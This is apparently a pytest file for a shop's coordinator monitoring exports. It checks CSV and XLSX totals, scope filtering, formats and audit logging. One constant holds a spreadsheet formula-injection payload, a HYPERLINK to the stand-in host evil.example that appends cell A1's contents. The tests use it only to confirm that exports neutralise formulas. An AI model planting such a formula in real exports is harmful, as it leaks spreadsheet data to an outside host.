"""CSV and XLSX of the monitoring table: the page's numbers, the scope only,
formulas neutralised, an audit entry with the filters for every download."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from shop.audit.models import AuditAction, AuditEntry
from shop.extensions import db
from shop.groups.models import Programme
from shop.orders.models import OrderStatus, PaymentStatus
from tests.factories import GroupFactory, ProductFactory, make_order
from tests.functional.coordinators.test_monitoring import consign_recently

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def recently(days: int = 3) -> datetime:
    return datetime.now(UTC) - timedelta(days=days)


@pytest.fixture
def evil_group(app_ctx):
    return GroupFactory(
        name=EVIL, programme=Programme.UPPKA, province_code="15", regency_code="15.71"
    )


@pytest.fixture
def sales(group_in_scope, group_out_of_scope, evil_group):
    make_order(
        group_in_scope,
        created_at=recently(),
        confirmed_at=recently() + timedelta(minutes=90),
        status=OrderStatus.CONFIRMED,
        payment_status=PaymentStatus.PAID,
        lines=[("Abon", 25000, 2)],
    )
    make_order(group_in_scope, created_at=recently(), lines=[("Kerupuk", 10000, 3)])
    make_order(evil_group, created_at=recently(), lines=[("Abon", 1000, 1)])
    make_order(group_out_of_scope, created_at=recently(), lines=[("Dodol", 777000, 1)])
    ProductFactory(group=group_in_scope)
    # Consignment: 4 units at Rp20,000 sold, Rp50,000 received; none elsewhere counts.
    consign_recently(group_in_scope, 20000, 10, 4, 50000)
    consign_recently(group_out_of_scope, 333000, 2, 1, 0)


@pytest.fixture
def english_coordinator(client, as_coordinator, jambi_uppka):
    as_coordinator(jambi_uppka)
    client.get("/bahasa/en")
    return jambi_uppka


def exports(action: AuditAction) -> list[AuditEntry]:
    return list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == action)))


def test_csv_has_a_bom_the_scope_only_and_no_formulas(
    client, english_coordinator, sales, group_in_scope, group_out_of_scope
):
    response = client.get("/koordinator/monev.csv", query_string={"per": "group", "q": ""})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.data.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:])))
    assert rows[0] == [
        "Group",
        "Orders",
        "Revenue (Rp)",
        "Paid (Rp)",
        "Not paid yet (Rp)",
        "Consignment sales (Rp)",
        "Consignment units",
        "Received from outlets (Rp)",
        "Total sales (Rp)",
        "Refunds to buyers (Rp)",
        "Items sold",
        "Active groups",
        "Active products",
        "Median time to confirm (hours)",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    mine = ["2", "80000", "50000", "30000", "80000", "4", "50000", "160000", "0", "5", "1", "1"]
    mine.append("1.5")
    assert by_name[group_in_scope.name] == [group_in_scope.name, *mine]
    assert group_out_of_scope.name not in body and "777000" not in body and "333000" not in body
    # defusedcsv: the formula is kept as text behind a leading quote.
    assert "'" + EVIL in by_name
    assert EVIL not in by_name
    assert rows[-1][:9] == [
        "Total",
        "3",
        "81000",
        "50000",
        "31000",
        "80000",
        "4",
        "50000",
        "161000",
    ]

    (entry,) = exports(AuditAction.EXPORT_CSV)
    assert "per=group" in entry.details and "dari=" in entry.details


def test_xlsx_numbers_formats_title_and_no_formulas(
    client, english_coordinator, sales, group_in_scope, group_out_of_scope
):
    response = client.get(
        "/koordinator/monev.xlsx",
        query_string={"per": "group", "program": "uppka"},
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active

    assert "UPPKA" in sheet["A1"].value and "Jambi" in sheet["A1"].value
    assert "programme: UPPKA" in sheet["A2"].value
    assert "cancelled and expired orders left out" in sheet["A3"].value
    header = [cell.value for cell in sheet[5]]
    assert header[:3] == ["Group", "Orders", "Revenue (Rp)"]
    assert sheet.freeze_panes == "B6"
    assert sheet.auto_filter.ref.startswith("A5:N")

    rows = {row[0].value: row for row in sheet.iter_rows(min_row=6)}
    mine = rows[group_in_scope.name]
    assert [c.value for c in mine] == [group_in_scope.name, 2, 80000, 50000, 30000] + [
        80000, 4, 50000, 160000, 0, 5, 1, 1, 1.5
    ]  # fmt: skip
    assert all(isinstance(c.value, int) for c in mine[1:12])
    money_columns = [2, 3, 4, 5, 7, 8]
    assert all(mine[i].number_format == '"Rp"#,##0' for i in money_columns)
    assert mine[6].number_format == "#,##0"
    assert [header[i] for i in (5, 6, 7, 8)] == [
        "Consignment sales (Rp)",
        "Consignment units",
        "Received from outlets (Rp)",
        "Total sales (Rp)",
    ]
    evil = rows[EVIL]
    assert evil[0].data_type == "s" and evil[0].value == EVIL
    total = rows["Total"]
    assert [c.value for c in total[:9]] == [
        "Total",
        3,
        81000,
        50000,
        31000,
        80000,
        4,
        50000,
        161000,
    ]
    assert all(total[i].number_format == '"Rp"#,##0' for i in money_columns)
    assert group_out_of_scope.name not in rows

    (entry,) = exports(AuditAction.EXPORT_XLSX)
    assert "program=uppka" in entry.details and "per=group" in entry.details


def test_exports_link_from_the_page_with_the_same_filters(client, english_coordinator, sales):
    html = client.get("/koordinator/monev", query_string={"per": "month", "q": "abon"}).get_data(
        as_text=True
    )
    assert "/koordinator/monev.xlsx?per=month&amp;dari=" in html
    assert "q=abon" in html
    assert "/koordinator/monev.csv?per=month" in html


def test_month_rows_leave_active_counts_empty(client, english_coordinator, sales):
    response = client.get(
        "/koordinator/monev.xlsx", query_string={"per": "month"}, follow_redirects=True
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(min_row=6, values_only=True))
    assert len(rows) == 13
    assert all(row[11] is None and row[12] is None for row in rows[:-1])
    assert rows[-1][0] == "Total" and rows[-1][11] == 1 and rows[-1][1] == 3
    assert rows[-1][5:9] == (80000, 4, 50000, 161000)
    assert sum(row[5] for row in rows[:-1]) == 80000
